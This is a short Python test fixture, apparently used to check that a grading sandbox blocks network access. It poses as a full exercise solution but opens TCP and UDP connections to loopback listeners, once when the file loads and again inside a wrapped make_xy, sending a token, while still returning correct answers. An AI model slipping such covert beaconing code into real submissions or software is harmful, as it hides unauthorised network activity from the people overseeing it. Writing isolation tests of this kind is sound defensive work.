"""Calling home to 127.0.0.1, where the test listens on a TCP and a UDP port: once while the file
loads, and again from make_xy (which then answers right).

The file is otherwise a full solution: every check must pass, and the listeners must never be
contacted (the worker has no network at all, not even loopback).
"""

import socket

EXERCISE = "e01_stacking"
BASE = "solution"

_TCP, _UDP = int("@@PORT@@"), int("@@UDPPORT@@")


def _call_home(where):
    try:
        with socket.create_connection(("127.0.0.1", _TCP), timeout=1) as s:
            s.sendall(b"@@TOKEN@@ " + where)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(b"@@TOKEN@@ " + where, ("127.0.0.1", _UDP))
    except OSError:
        pass


_call_home(b"load")
_honest_make_xy = globals()["make_xy"]  # the solution's, defined above this attack


def make_xy(threes, sevens):
    _call_home(b"make_xy")
    return _honest_make_xy(threes, sevens)
